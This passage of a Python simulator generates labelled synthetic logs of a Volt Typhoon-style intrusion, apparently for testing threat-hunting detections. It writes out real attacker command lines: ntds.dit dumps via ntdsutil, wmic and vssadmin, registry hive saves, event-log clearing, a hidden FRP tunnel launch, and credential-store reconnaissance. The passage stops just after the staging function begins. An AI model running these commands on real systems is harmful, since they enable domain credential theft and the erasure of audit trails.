"""Volt Typhoon inside the network, step by step from the tradecraft sheet.

Every command shape, file name, path, registry key, port and event id below comes from
``shared/threat/volt-typhoon.md`` (technique rows 1-34, indicators section 3); the few
that the sheet marks UNCONFIRMED or does not give (the log-clearing command, the SECURITY
hive file name) are flagged where they are used. The seed picks the variants: web stack
and shell, FRP name and callback port, wmic vs Impacket wmiexec vs vssadmin for ntds.dit,
7-Zip vs renamed rar vs makecab, RDP over the FRP tunnel or VPN, which hosts, which logs.

The actor works in short hands-on-keyboard windows in China Standard Time office hours
(01:00-10:00 UTC), which is night in the victim's US time zone (or office hours on Guam).
Each window becomes one :class:`Op` per touched host whose script carries absolute times,
so the source and target of a remote action agree without sharing state.
"""

from __future__ import annotations

import random
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import timedelta

from lotlhunt.simulate.background import (
    ME_HOME,
    MIN,
    Session,
    close_session,
    cmdlets,
    console,
    open_session,
    pwsh,
)
from lotlhunt.simulate.events import (
    SEC,
    SECURITY,
    SYSTEM_LOG,
    WINDOWS_POWERSHELL,
    HostState,
    Op,
    effects,
    run_and_effect,
)
from lotlhunt.simulate.network import DC, FILE, MON, SQL, SYS32, TOOLS, WEB, Account, Host, Network

# Hand-wrapped: the sheet's command shapes read better verbatim than split by a formatter.
# fmt: off
FRP_NAMES = ["cisco_up.exe", "cl64.exe", "vm3dservice.exe", "watchdogd.exe", "WmiPreSV.exe",
             "WmiPrvSE.exe", "BrightmetricAgent.exe", "SMSvcService.exe"]
FRP_PORTS = [8080, 8443, 8043, 8000, 10443]
#: SHA-256 of FRP clients (sheet section 3.1): the AA24-038A pair, then Microsoft's list.
FRP_SHA256 = {
    "smsvcservice.exe": "99b80c5ac352081a64129772ed5e1543d94cad708ba2adc46dc4ab7a0bd563f1",
    "brightmetricagent.exe": "edc0c63065e88ec96197c8d7a40662a15a812a9583dc6c82b18ecd7e43b13b70"}
MS_FRP = ["baeffeb5fdef2f42a752c65c2d2a52e84fb57efc906d981f89dd518c314e231c",
          "b4f7c5e3f14fb57be8b5f020377b993618b6e3532a4e1eb1eae9976d4130cc74",
          "4b0c4170601d6e922cf23b1caf096bba2fade3dfcf92f0ab895a5f0b9a310349",
          "c0fc29a52ec3202f71f6378d9f7f9a8a3a10eb19acb8765152d758aded98c76d",
          "472ccfb865c81704562ea95870f60c08ef00bcd2ca1d7f09352398c05be5d05d"]
#: Sheet row 11, verbatim (including the Pro variant's unbalanced quote).
IFM_VARIANTS = {
    "Pro": 'wmic process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm '
           '\\"create full C:\\Windows\\Temp\\Pro"',
    "Appfile": 'wmic process call create "cmd.exe /c mkdir C:\\users\\public\\Appfile & ntdsutil '
               '\\"ac i ntds\\" ifm \\"create full C:\\users\\public\\Appfile\\" q q"',
    "tmp": 'wmic process call create "cmd.exe /c mkdir C:\\Windows\\Temp\\tmp & ntdsutil '
           '\\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\tmp\\""',
    "McAfee_Logs": 'wmic process call create "cmd.exe /c mkdir C:\\windows\\Temp\\McAfee_Logs & '
                   'ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\McAfee_Logs\\""',
}
IFM_DIRS = {"Pro": "C:\\Windows\\Temp\\Pro", "Appfile": "C:\\users\\public\\Appfile",
            "tmp": "C:\\Windows\\Temp\\tmp", "McAfee_Logs": "C:\\Windows\\Temp\\McAfee_Logs"}
EDGE_DISCOVERY = [  # rows 18-22, through the web shell
    ("whoami", "T1033"), ("systeminfo", "T1082"), ("ipconfig /all", "T1016"), ("arp -a", "T1016"),
    ("netstat -ano", "T1049"), ("netsh interface firewall show all", "T1016"),
    ("netsh firewall show all", "T1016"), ("netsh interface portproxy show all", "T1016.001"),
    ("netsh interface portproxy show v4tov4", "T1016.001"), ("curl www.ip-api.com", "T1016"),
    ("ping -n 1 -a {dc_ip}", "T1018"), ("tasklist /v", "T1057"), ("tasklist /svc", "T1007"),
    ("net start", "T1007"), ("reg query hklm\\software\\", "T1012"),
    ("wmic product list brief", "T1518"), ("wmic service brief", "T1007"),
    ("wmic baseboard list full", "T1082"), ("wmic volume list brief", "T1082"),
    ('"wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"', "T1082"),
    ("net localgroup administrators", "T1069.001"), ("net group /dom", "T1069.002"),
    ('net group "domain controllers" /dom', "T1018"), ("net user", "T1087.001"), ("quser", "T1033"),
]
DC_DISCOVERY = [  # rows 20-21, typed on the domain controller
    ("dnscmd . /enumzones", "T1018"), ("dnscmd . /enumrecords /zone {domain}", "T1018"),
    ("dnscmd /enumrecords {domain} . /additional", "T1018"),
    ("ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree", "T1087.002"),
    ('net group "Domain Admins" /dom', "T1069.002"), ("nltest /DOMAIN_TRUSTS", "T1482"),
    ("quser", "T1033"), ("whoami", "T1033"), ("net user", "T1087.001"), ("systeminfo", "T1082"),
]
CRED_RECON = [  # row 15; {u} = the admin whose workstation it is
    "reg query hklm\\software\\OpenSSH", "reg query hklm\\software\\OpenSSH\\Agent",
    "reg query hklm\\software\\realvnc", "reg query hklm\\software\\realvnc\\vncserver",
    "reg query hklm\\software\\realvnc\\Allusers",
    "reg query hklm\\software\\realvnc\\Allusers\\vncserver",
    "reg query hkcu\\software\\SimonTatham\\putty\\session",
    "dir C:\\Users\\{u}\\.ssh\\known_hosts",
    "dir C:\\users\\{u}\\appdata\\roaming\\Mozilla\\firefox\\profiles",
]
_BUILTINS = ("dir", "copy", "move", "del", "rd", "cd", "type", "mkdir", "echo")
_SOHO = ("73.", "98.", "24.", "71.", "108.", "67.", "174.")  # residential ISP ranges (relays)


@dataclass
class CampaignPlan:
    ops: list[Op]
    #: host -> channel index -> time of the last clear; records before it are wiped.
    clears: dict[str, dict[int, int]]
    attacked: list[str]
    variants: dict[str, object]
    #: One entry per (step, host): step, technique, host, first time, and
    #: ``detectable_by: "behaviour"`` where all its events are only behaviour-detectable.
    steps: list[dict] = field(default_factory=list)
    #: The host the actor entered by (the exploited edge server).
    entry_host: str = ""
    #: One entry per (from, to, account, method): where the actor moved and first when;
    #: ``first`` is the time of the target's logon event.
    edges: list[dict] = field(default_factory=list)


# ---- actions: fn(st, ts, ctx, **kw); ctx is the window's per-host scratch (session) --------
def _shell(st: HostState, ts: int, cmd: str) -> None:
    """A command through the web shell: java/w3wp -> ``cmd /C`` (ProcessBuilder) -> the tool."""
    outer = ("cmd /C " if st.host.web_stack == "manageengine" else "cmd.exe /c ") + cmd
    p = st.spawn(ts, st.web, TOOLS["cmd"], outer)
    effects(st, ts, p, outer)
    for part in cmd.strip('"').split(" & "):
        if part.split(" ", 1)[0].lower() not in _BUILTINS:
            c = run_and_effect(st, ts + 30_000, p, part.split(" >", 1)[0].strip())
            if part.startswith("curl "):
                st.conn(ts + 400_000, c, "208.95.112.1", 80, dst_host="ip-api.com")


def a_shell(st: HostState, ts: int, ctx: dict, cmd: str) -> None:
    _shell(st, ts, cmd)


def a_file(st: HostState, ts: int, ctx: dict, paths: list[str]) -> None:
    for i, p in enumerate(paths):
        st.file(ts + i * 700_000, st.web, p)


def a_compile(st: HostState, ts: int, ctx: dict) -> None:
    """IIS compiles the new .aspx: w3wp -> csc.exe, an App_Web dll written."""
    net = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
    bits = st.rng.getrandbits(64)
    d = f"{net}Temporary ASP.NET Files\\root\\{bits >> 32:08x}\\{bits & 0xFFFFFFFF:08x}"
    name = "".join(st.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    csc = st.spawn(ts, st.web, net + "csc.exe",
                   f'"{net}csc.exe" /noconfig /fullpaths @"{d}\\{name}.cmdline"')
    st.file(ts + 900_000, csc, f"{d}\\App_Web_{name}.dll")


def a_frp(st: HostState, ts: int, ctx: dict, image: str, c2: str, port: int, bat: str | None,
          beacons: list[int], sha: str) -> None:
    """Drop an FRP client, start it hidden from PowerShell, let it call back (rows 9, 32, 34)."""
    st.hash_override[image.lower()] = sha
    st.file(ts, st.web, image)
    if bat:
        st.file(ts + SEC, st.web, bat)
    text = f"start-process -filepath {(bat or image).lower()} -windowstyle hidden"
    me = st.host.web_stack == "manageengine"
    t = ts + 20 * SEC
    c = st.spawn(t, st.web, TOOLS["cmd"],
                 ("cmd /C " if me else "cmd.exe /c ") + "powershell " + text)
    ps = st.spawn(t + 60_000, c, TOOLS["powershell"], "powershell  " + text)
    ctx_ps = st.ps_open(t + SEC, ps)
    params = {"FilePath": (bat or image).lower(), "WindowStyle": "Hidden"}
    st.ps_command(t + SEC + 300_000, ctx_ps, text, [("Start-Process", params)])
    parent = st.spawn(t + 2 * SEC, ps, TOOLS["cmd"],
                      f'C:\\Windows\\system32\\cmd.exe /c ""{bat}" "') if bat else ps
    st.frp = st.spawn(t + 2 * SEC + 200_000, parent, image, image, cwd="C:\\Windows\\Temp\\")
    st.ps_close(t + 3 * SEC, ctx_ps)
    for b in [t + 3 * SEC] + beacons:  # reconnects of the long-lived tunnel
        st.conn(b, st.frp, c2, port)


def a_net(st: HostState, ts: int, ctx: dict, dst: str, port: int) -> None:
    """Traffic the actor pushes through the FRP tunnel on the edge server."""
    st.conn(ts, st.frp or st.web, dst, port)


def a_rdp_open(st: HostState, ts: int, ctx: dict, acct: Account, ip: str, client: str) -> None:
    ctx["sess"] = open_session(st, ts, acct, 10, ip, client, admin=True)


def a_rdp_close(st: HostState, ts: int, ctx: dict) -> None:
    close_session(st, ts, ctx["sess"])


#: Actions whose events the sheet gives no host-log artefact for: a valid domain-admin
#: account opening and closing an RDP session on the DC (rows 2, 26: 4624 type 10, 4634,
#: userinit/explorer/rdpclip) is told from admin work only by baselines (first-seen
#: source, off-hours; sheet section 2 H10, H11, H18). Through the FRP tunnel the same
#: step also leaves the FRP client's connection on the edge server, which a rule can see.
BEHAVIOUR_ONLY = frozenset({a_rdp_open, a_rdp_close})


def a_cmd(st: HostState, ts: int, ctx: dict, cmd: str, inner: list[str] = (),
          pe_as: str | None = None, files: list[str] = ()) -> None:
    """A command typed into the RDP console; ``inner`` = tools a ``cmd /c`` wrapper starts."""
    shell = console(st, ts - 4 * SEC, ctx["sess"])
    if cmd.split(" ", 1)[0].lower() in _BUILTINS:
        return
    p = run_and_effect(st, ts, shell, cmd, pe_as=pe_as)
    for i, f in enumerate(files):
        st.file(ts + 700_000 * (i + 1), p, f)
    for i, c in enumerate(inner):
        run_and_effect(st, ts + 50_000 * (i + 1), p, c)


def a_ps(st: HostState, ts: int, ctx: dict, text: str, out_file: str | None = None) -> None:
    ps = pwsh(st, ts - 3 * SEC, ctx["sess"])
    st.ps_command(ts, ps, text, cmdlets(text))
    if out_file:
        st.file(ts + 2 * SEC, ps.proc, out_file)


def wmic_inner(wmic_cmd: str) -> str:
    """The command line WmiPrvSE starts for ``wmic ... process call create "<inner>"``."""
    s = wmic_cmd.split("call create ", 1)[1].strip()
    s = s[1:] if s.startswith('"') else s
    s = (s[:-1] if s.endswith('"') else s).replace('\\"', '"')
    return s + '"' if s.count('"') % 2 else s


def _wmiprvse_runs(st: HostState, ts: int, inner: str, logon=None) -> None:
    """WmiPrvSE starts ``inner`` (and cmd starts each ``&``-chained tool in it)."""
    if not inner.lower().startswith("cmd"):
        run_and_effect(st, ts, st.wmiprvse, inner, logon=logon, integrity="High")
        return
    p = st.spawn(ts, st.wmiprvse, TOOLS["cmd"], inner, logon=logon, integrity="High", cwd=SYS32)
    effects(st, ts, p, inner)
    for i, part in enumerate(inner.split(" /c ", 1)[1].split(" & ")):
        if part.split(" ", 1)[0].lower() not in _BUILTINS:
            run_and_effect(st, ts + 60_000 * (i + 1), p, part.split(" >", 1)[0].strip())


def a_wmic_chain(st: HostState, ts: int, ctx: dict, console_cmd: str) -> None:
    """wmic process call create run locally: WmiPrvSE starts the inner command (rows 6, 11)."""
    sess: Session = ctx["sess"]
    p = run_and_effect(st, ts, console(st, ts - 4 * SEC, sess), console_cmd)
    if console_cmd.startswith('"cmd.exe" /c '):
        st.run(ts + 40_000, p, console_cmd.split(" /c ", 1)[1])
    _wmiprvse_runs(st, ts + 800_000, wmic_inner(console_cmd), logon=sess.logon)


def a_vss_copy(st: HostState, ts: int, ctx: dict, tmp: str) -> None:
    """Copy ntds.dit and SYSTEM out of the shadow copy just made (row 12)."""
    n = st.shadow_n - 1
    for i, (src, name) in enumerate((("Windows\\NTDS\\ntds.dit", "ntds.dit"),
                                     ("Windows\\System32\\config\\SYSTEM", "SYSTEM"))):
        cmd = (f"cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{n}\\{src} "
               f"C:\\Windows\\Temp > C:\\Windows\\Temp\\{tmp}.tmp")
        a_cmd(st, ts + i * 25 * SEC, ctx, cmd, files=["C:\\Windows\\Temp\\" + name])


def a_pcwrun(st: HostState, ts: int, ctx: dict, c2: str, port: int, sha: str) -> None:
    """Program Compatibility Wizard starts a dropped FRP client (rows 10, 32)."""
    sess, path = ctx["sess"], "C:\\Users\\Administrator\\Desktop\\Win.exe"
    st.hash_override[path.lower()] = sha
    st.file(ts - 40 * SEC, sess.explorer, path)
    p = st.spawn(ts, sess.explorer, SYS32 + "pcwrun.exe",
                 f"C:\\Windows\\system32\\pcwrun.exe {path}",
                 integrity="High")
    st.conn(ts + 2 * SEC, st.spawn(ts + SEC, p, path, f'"{path}"'), c2, port)


def a_relay(st: HostState, ts: int, ctx: dict, dst: str, port: int, count: int) -> None:
    """Traffic through a port proxy: the IP Helper service connects onward (derived)."""
    iphlp = st.proc_at(ts, SYS32 + "svchost.exe",
                       "C:\\Windows\\system32\\svchost.exe -k NetSvcs -p -s iphlpsvc")
    for i in range(count):
        st.conn(ts + i * st.ri(60, 900) * SEC, iphlp, dst, port)


def a_wmic_remote_src(st: HostState, ts: int, ctx: dict, cmd: str, target: str, target_ip: str,
                      acct: Account, via: str) -> None:
    """Source of ``wmic /node: /user: /password:``: the process, 4648, RPC to the target."""
    if via == "web":
        me = st.host.web_stack == "manageengine"
        c, lg = st.spawn(ts, st.web, TOOLS["cmd"],
                         ("cmd /C " if me else "cmd.exe /c ") + cmd), st.web.logon
    else:
        c, lg = console(st, ts - 4 * SEC, ctx["sess"]), ctx["sess"].logon
    w = st.run(ts + 40_000, c, cmd)
    st.explicit_creds(ts + 300_000, lg, acct, target, target_ip, w, "135")
    st.conn(ts + 350_000, w, target_ip, 135, dst_host=target)


def a_remote_target(st: HostState, ts: int, ctx: dict, acct: Account, src_ip: str,
                    inner: str) -> None:
    """Target of remote WMI: network logon, WmiPrvSE -> the command, logoff."""
    lg = st.logon(ts, acct, 3, ip=src_ip, admin=True)
    _wmiprvse_runs(st, ts + 600_000, inner, logon=lg)
    st.logoff(ts + 25 * SEC, lg, 3)


def a_wmiexec(st: HostState, ts: int, ctx: dict, acct: Account, src_ip: str, commands: list[str],
              epoch: str) -> None:
    """Impacket wmiexec on the target (row 7): output to ``\\\\127.0.0.1\\ADMIN$\\__<epoch>``."""
    lg = st.logon(ts, acct, 3, ip=src_ip, auth="NTLM", admin=True)
    st.share(ts + 200_000, lg, src_ip, "ADMIN$", "\\??\\C:\\Windows")
    loop = st.logon(ts + 2 * SEC, acct, 3, ip="127.0.0.1", admin=True)
    st.share(ts + 2 * SEC + 5000, loop, "127.0.0.1", "ADMIN$", "\\??\\C:\\Windows")
    t, out = ts + 3 * SEC, "__" + epoch
    for c in commands:
        full = f"cmd.exe /Q /c {c} 1> \\\\127.0.0.1\\ADMIN$\\{out} 2>&1"
        p = st.spawn(t, st.wmiprvse, TOOLS["cmd"], full, logon=lg, integrity="High", cwd=SYS32)
        if c.split(" ", 1)[0].lower() not in _BUILTINS:
            run_and_effect(st, t + 40_000, p, c)
            if c.startswith("wmic") and "call create" in c:
                _wmiprvse_runs(st, t + 900_000, wmic_inner(c), logon=lg)
        st.share_file(t + 150_000, loop, "127.0.0.1", "ADMIN$", "\\??\\C:\\Windows", out,
                      write=True)
        st.file(t + 160_000, st.kernel, "C:\\Windows\\" + out)
        st.share_file(t + 1_100_000, lg, src_ip, "ADMIN$", "\\??\\C:\\Windows", out)
        t += st.ri(8, 40) * SEC
    st.logoff(t + 5 * SEC, loop, 3)
    st.logoff(t + 6 * SEC, lg, 3)


def a_smb(st: HostState, ts: int, ctx: dict, acct: Account, src_ip: str, share: str, local: str,
          files: list[str], write: bool = False) -> None:
    lg = st.logon(ts, acct, 3, ip=src_ip, admin=True)
    st.share(ts + 100_000, lg, src_ip, share, local)
    for i, f in enumerate(files):
        st.share_file(ts + 300_000 * (i + 1), lg, src_ip, share, local, f, write=write)
    st.logoff(ts + (len(files) + 5) * SEC, lg, 3)


def a_psexec_src(st: HostState, ts: int, ctx: dict, cmd: str, target_ip: str) -> None:
    p = st.run(ts, console(st, ts - 4 * SEC, ctx["sess"]), cmd)
    st.conn(ts + 200_000, p, target_ip, 445)


def a_psexec_target(st: HostState, ts: int, ctx: dict, acct: Account, src_ip: str, src_name: str,
                    inner: str, tools: list[str]) -> None:
    """PsExec's footprint on the target (row 27): shares, PSEXESVC service, its children."""
    lg = st.logon(ts, acct, 3, ip=src_ip, admin=True)
    st.share(ts + 100_000, lg, src_ip, "ADMIN$", "\\??\\C:\\Windows")
    st.share_file(ts + 200_000, lg, src_ip, "ADMIN$", "\\??\\C:\\Windows", "PSEXESVC.exe",
                  write=True)
    st.service_installed(ts + 600_000, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", acct)
    st.service_state(ts + 700_000, "PSEXESVC", "PSEXESVC", True)
    st.share(ts + 900_000, lg, src_ip, "IPC$", "")
    for i, pipe in enumerate(("stdin", "stdout", "stderr")):
        st.share_file(ts + 950_000 + i * 1000, lg, src_ip, "IPC$", "",
                      f"PSEXESVC-{src_name}-{st.ri(1000, 9000)}-{pipe}")
    svc = st.spawn(ts + 650_000, st.services, "C:\\Windows\\PSEXESVC.exe",
                   "C:\\Windows\\PSEXESVC.exe")
    p = st.spawn(ts + 1_000_000, svc, TOOLS["cmd"], inner)
    for i, t in enumerate(tools):
        p = run_and_effect(st, ts + 1_100_000 + i * 50_000, p, t)
    st.service_state(ts + 4 * SEC, "PSEXESVC", "PSEXESVC", False)
    st.logoff(ts + 5 * SEC, lg, 3)


def a_clear(st: HostState, ts: int, ctx: dict, logs: list[tuple[str, int]], via: str) -> None:
    """Clear logs (row 31). The sheet gives no command (UNCONFIRMED): wevtutil/Clear-EventLog."""
    sess = ctx.get("sess")
    lg = sess.logon if sess else st.web.logon
    for name, t_clear in logs:
        t = t_clear - 900_000
        quoted = f'"{name}"' if " " in name else name
        if sess is not None and via == "ps":
            a_ps(st, t, ctx, f"Clear-EventLog -LogName {quoted}")
        elif sess is not None:
            a_cmd(st, t, ctx, f"wevtutil cl {quoted}")
        else:
            _shell(st, t, f"wevtutil cl {quoted}")
        if name == "Security":
            st.audit_cleared(t_clear, lg)
        else:
            st.log_cleared(t_clear, lg, name)


def actor_script(st: HostState, ts: int, script: list[tuple]) -> None:
    """Run one window of the actor's actions on this host, each with its own truth label."""
    ctx: dict = {}
    for t, label, action, kw in script:
        st.label = label
        action(st, t, ctx, **kw)
    st.label = None


# ---- planning ----------------------------------------------------------------------------
class _Windows:
    """Timed actions per host; the clock advances like a person typing (``lo``-``hi`` s)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng, self.t = rng, 0
        self.by_host: dict[str, list[tuple]] = defaultdict(list)
        self.windows: list[dict[str, list[tuple]]] = []

    def open(self, t0: int) -> None:
        self.t, self.by_host = t0, defaultdict(list)
        self.windows.append(self.by_host)

    def step(self, lo: int = 20, hi: int = 150) -> int:
        self.t += self.rng.randrange(lo, hi) * SEC
        return self.t

    def add(self, host: Host, t: int, step: str, tech: str, action, **kw) -> None:
        self.by_host[host.name].append((t, (step, tech), action, kw))

    def now(self, host: Host, step: str, tech: str, action, lo: int = 20, hi: int = 150,
            **kw) -> int:
        t = self.step(lo, hi)
        self.add(host, t, step, tech, action, **kw)
        return t


def _rand(rng: random.Random, n: int, alphabet: str = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


@dataclass
class _Actor:
    """The seed's choices: hosts, accounts, infrastructure and tradecraft variants."""

    net: Network
    rng: random.Random
    web: Host
    dc: Host
    fs: Host
    pp_host: Host
    recon_ws: Host
    recon_user: str
    da: Account
    pw: str
    client: str
    relays: list[str]
    port: int
    frp: str
    sha: str
    bat: str | None
    cred: list[str]
    ifm_key: str
    stage: str
    rdp_ip: str
    dc_logs: list[str]
    web_logs: list[str]
    clear_via: str
    pp: tuple[int, str, int]

    @property
    def me(self) -> bool:
        return self.web.web_stack == "manageengine"

    @property
    def ifm_dir(self) -> str:
        return IFM_DIRS[self.ifm_key]


def _choose(net: Network, seed: int) -> _Actor:
    rng = random.Random(f"campaign:{seed}")
    web, dc, fs = net.by_role(WEB)[0], rng.choice(net.by_role(DC)), rng.choice(net.by_role(FILE))
    relay_hosts = net.by_role(MON) + net.by_role(SQL) + net.by_role(FILE)  # PRTG box first
    pp_host = relay_hosts[0] if net.by_role(MON) and rng.random() < 0.7 else rng.choice(relay_hosts)
    netadmin = net.person("network_admin") or net.admins[-1]
    word = rng.choice(["Spring", "Winter", "Pump", "Grid", "Water"])
    pw = f"{word}{rng.randrange(2019, 2026)}{rng.choice('!#$@')}"
    relays = [rng.choice(_SOHO) + ".".join(str(rng.randrange(2, 254)) for _ in range(3))
              for _ in range(3)]
    frp = rng.choice(FRP_NAMES)
    bat = None
    if rng.random() < 0.3:
        bat = f"C:\\Windows\\Temp\\{_rand(rng, 6, 'abcdefghijklmnopqrstuvwxyz')}.bat"
    ways = ["wmic_local", "wmic_remote", "wmiexec", "vssadmin"]
    cred = [rng.choice(ways)]
    if rng.random() < 0.4:
        cred.append(rng.choice([c for c in ways if c != cred[0]]))
    me = web.web_stack == "manageengine"
    sql = next(iter(net.by_role(SQL)), None)
    pp = (9999, relays[1], 8443)
    if sql and pp_host is not sql and rng.random() < 0.4:
        pp = (50100, sql.ip, 1433)
    rdp_ip = web.ip if rng.random() < 0.67 else net.vpn_pool + str(rng.randrange(10, 250))
    dc_logs = ["Security"] + rng.choice([["Windows PowerShell"], ["System"], []])
    # The IIS app-pool identity cannot clear logs; the ManageEngine service runs as SYSTEM.
    web_logs = rng.choice([["Security"], ["Security", "System"], []]) if me else []
    return _Actor(
        net, rng, web, dc, fs, pp_host, net.host(netadmin.workstation), netadmin.account.sam,
        (net.person("dc_admin") or net.admins[0]).admin, pw, "DESKTOP-" + _rand(rng, 7), relays,
        rng.choice(FRP_PORTS), frp, FRP_SHA256.get(frp.lower(), rng.choice(MS_FRP)), bat, cred,
        rng.choice(list(IFM_VARIANTS)), rng.choice(["7z", "rar"] + (["makecab"] if me else [])),
        rdp_ip, dc_logs, web_logs, rng.choice(["wevtutil", "ps"]), pp)


def _edge(a: _Actor, W: _Windows, end: int) -> str:
    """Window 0: exploit the edge server, web shell, discovery, FRP (rows 1, 4, 9, 18-22, 34)."""
    rng, web = a.rng, a.web
    if a.me:
        W.now(web, "initial_access", "T1190", a_file,
              paths=[ME_HOME + "\\webapps\\adssp\\html\\error.jsp"])
        rel = rng.choice(["html\\promotion\\selfsdp", "AuditReport"])
        jsp = f"{ME_HOME}\\work\\Catalina\\localhost\\ROOT\\org\\apache\\jsp\\{rel}_jspx"
        paths = [f"{ME_HOME}\\webapps\\adssp\\{rel}.jspx", jsp + ".java", jsp + ".class"]
        if rng.random() < 0.35:  # the backdoored Tomcat library variant (S8)
            paths += ["C:\\users\\public\\tomcat-websocket.jar", "C:\\users\\public\\tmp.log"]
        W.now(web, "webshell", "T1505.003", a_file, 5, 40, paths=paths)
    else:
        # The exploited IIS application leaves the exploit itself in web logs only (row 1);
        # what the host logs is w3wp writing the shell (S5's iisstart.aspx), then compiling it.
        paths = ["C:\\inetpub\\wwwroot\\iisstart.aspx"]
        W.now(web, "webshell", "T1505.003", a_file, paths=paths)
        W.now(web, "webshell", "T1505.003", a_compile, 2, 10)
    for cmd, tech in rng.sample(EDGE_DISCOVERY, rng.randint(9, 15)):
        W.now(web, "discovery_edge", tech, a_shell, 8, 75, cmd=cmd.format(dc_ip=a.dc.ip))
    W.now(web, "discovery_edge", "T1082", a_shell,
          cmd="systeminfo > C:\\Users\\Public\\Documents\\systeminfo.dat")
    t = W.step()
    beacons, b = [], t + rng.randrange(2, 6) * 3600 * SEC
    while b < end:
        beacons.append(b)
        b += rng.randrange(3, 9) * 3600 * SEC
    W.add(web, t, "proxy_frp", "T1090", a_frp, image="C:\\Windows\\Temp\\" + a.frp, c2=a.relays[0],
          port=a.port,
          bat=a.bat, beacons=beacons, sha=a.sha)
    return paths[0]


def _rdp_in(a: _Actor, W: _Windows) -> None:
    t = W.step()
    if a.rdp_ip == a.web.ip:  # RDP through the FRP tunnel arrives from the edge server
        W.add(a.web, t - 300_000, "lateral_rdp", "T1021.001", a_net, dst=a.dc.ip, port=3389)
    W.add(a.dc, t, "lateral_rdp", "T1021.001", a_rdp_open, acct=a.da, ip=a.rdp_ip, client=a.client)


def _wmic_creds(a: _Actor, target: Host) -> str:
    return f"wmic /node:{target.name} /user:{a.net.netbios}\\{a.da.sam} /password:{a.pw}"


def _wmic_node(a: _Actor, target: Host, inner: str) -> str:
    return f'{_wmic_creds(a, target)} process call create "{inner}"'


def _credentials(a: _Actor, W: _Windows) -> None:
    """Window 1: RDP to a DC, discovery, Security-log recon, ntds.dit, hives (rows 6-26)."""
    rng, dc, web, net = a.rng, a.dc, a.web, a.net
    if rng.random() < 0.6:  # S8: remote wmic discovery with stolen credentials, output to %TEMP%
        home = f"C:\\Users\\{a.da.sam}\\AppData\\Local\\"
        for inner, tech in (
            (f"cmd /c nltest /DOMAIN_TRUSTS >>{home}{_rand(rng, 5)}.tmp", "T1482"),
            (f"cmd /c Dnscmd . /EnumZones >>{home}Temp\\{_rand(rng, 5)}.tmp", "T1018"),
        ):
            t = W.now(web, "discovery_remote_wmic", "T1047", a_wmic_remote_src, via="web",
                      cmd=_wmic_node(a, dc, inner), target=dc.name, target_ip=dc.ip, acct=a.da)
            W.add(dc, t + 1_500_000, "discovery_remote_wmic", tech, a_remote_target, acct=a.da,
                  src_ip=web.ip, inner=inner)
    _rdp_in(a, W)
    for cmd, tech in rng.sample(DC_DISCOVERY, rng.randint(5, 8)):
        W.now(dc, "discovery_dc", tech, a_cmd, 15, 90, cmd=cmd.format(domain=net.domain))
    since = net.start.date().isoformat()
    if rng.random() < 0.65:
        out = "C:\\users\\public\\documents\\user.dat"
        W.now(dc, "security_log_recon", "T1654", a_ps, out_file=out,
              text=f"Get-EventLog security -instanceid 4624 -after {since} | fl * | "
                   f"Out-File '{out}'")
    else:
        W.now(dc, "security_log_recon", "T1654", a_cmd,
              cmd="wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624) and TimeCreated"
                  f"[@SystemTime>='{since}T00:00:00']] and EventData[Data='{a.da.sam}']]")
    if rng.random() < 0.3:
        W.now(dc, "proxy_frp", "T1218", a_pcwrun, c2=a.relays[2], port=rng.choice(FRP_PORTS),
              sha=rng.choice(MS_FRP))
    for variant in a.cred:
        if variant == "wmic_local":
            cmd = IFM_VARIANTS[a.ifm_key]
            cmd = '"cmd.exe" /c ' + cmd if a.ifm_key == "McAfee_Logs" else cmd
            W.now(dc, "credential_dump_ntds", "T1003.003", a_wmic_chain, console_cmd=cmd)
        elif variant == "wmic_remote":
            wm = IFM_VARIANTS[a.ifm_key].replace("wmic ", _wmic_creds(a, dc) + " ", 1)
            t = W.now(web, "credential_dump_ntds", "T1047", a_wmic_remote_src, cmd=wm,
                      target=dc.name, target_ip=dc.ip, acct=a.da, via="web")
            W.add(dc, t + 1_200_000, "credential_dump_ntds", "T1003.003", a_remote_target,
                  acct=a.da, src_ip=web.ip, inner=wmic_inner(wm))
        elif variant == "wmiexec":
            epoch = f"{W.t // SEC}.{rng.randrange(10**6):06d}"
            t = W.now(web, "credential_dump_ntds", "T1047", a_net, dst=dc.ip, port=135)
            ifm = IFM_VARIANTS["tmp" if a.ifm_key == "McAfee_Logs" else a.ifm_key]
            W.add(dc, t + 200_000, "credential_dump_ntds", "T1003.003", a_wmiexec, acct=a.da,
                  src_ip=web.ip, epoch=epoch,
                  commands=["cd \\", 'net group "domain admins" /dom', ifm])
            W.step(120, 300)
        else:  # vssadmin, copy out of the shadow, then ntdsutil against it (AA24-038A)
            tmp = _rand(rng, 8, "abcdef0123456789")
            W.now(dc, "credential_dump_ntds", "T1006", a_cmd,
                  inner=["vssadmin create shadow /for=C:"],
                  cmd=f"cmd /c vssadmin create shadow /for=C: > C:\\Windows\\Temp\\{tmp}.tmp")
            W.now(dc, "credential_dump_ntds", "T1003.003", a_vss_copy, 20, 60, tmp=tmp)
            W.now(dc, "credential_dump_ntds", "T1003.003", a_wmic_chain, 60, 120,
                  console_cmd='wmic process call create "ntdsutil \\"ac i ntds\\" ifm '
                              '\\"create full C:\\Windows\\Temp\\"')
        W.step(30, 90)
    hives = ["reg save hklm\\sam ss.dat", "reg save hklm\\system sy.dat"]
    if rng.random() < 0.5:
        hives.append("reg save hklm\\security se.dat")  # SECURITY: asked for, not in the sheet
    for h in hives:
        W.now(dc, "credential_dump_hives", "T1003.002", a_cmd, 10, 40, cmd=h)
    W.now(dc, "lateral_rdp", "T1021.001", a_rdp_close, 30, 120)


def _staging(a: _Actor, W: _Windows, stamp_day: int) -> None:
    """Window 2: archive, SMB pull, port proxy, share discovery, credential recon (rows 15-33)."""
    rng, dc, web, fs, net = a.rng, a.dc, a.web, a.fs, a.net
